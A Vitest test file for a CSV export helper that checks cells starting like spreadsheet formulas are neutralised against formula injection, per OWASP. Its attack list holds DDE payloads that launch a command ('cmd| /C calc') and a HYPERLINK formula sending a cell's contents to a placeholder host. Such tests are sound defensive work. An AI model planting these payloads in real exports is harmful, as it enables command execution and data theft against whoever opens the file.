import { describe, expect, it } from 'vitest';
import { csv, csvCell } from './csv.js';

describe('the CSV of staff exports', () => {
  it('makes every cell that begins like a formula text, per OWASP', () => {
    const attacks = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '-1', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '＝1+1', '+39 0376 123456'];
    for (const value of attacks) {
      const cell = csvCell(value);
      expect(cell, value).toBe(`"'${value.replace(/"/g, '""')}"`);
    }
  });

  it('leaves plain values alone and quotes what holds a comma, a quote or a line break', () => {
    expect(csvCell('Giulia Rossi')).toBe('Giulia Rossi');
    expect(csvCell('0376 123456')).toBe('0376 123456');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('')).toBe('');
    expect(csvCell('Classe 2C, "Fermi"')).toBe('"Classe 2C, ""Fermi"""');
    expect(csvCell('due\nrighe')).toBe('"due\nrighe"');
    expect(csv([['code', 'name'], ['LTO-7K3P', '=1+1']])).toBe(`code,name\r\nLTO-7K3P,"'=1+1"\r\n`);
  });
});
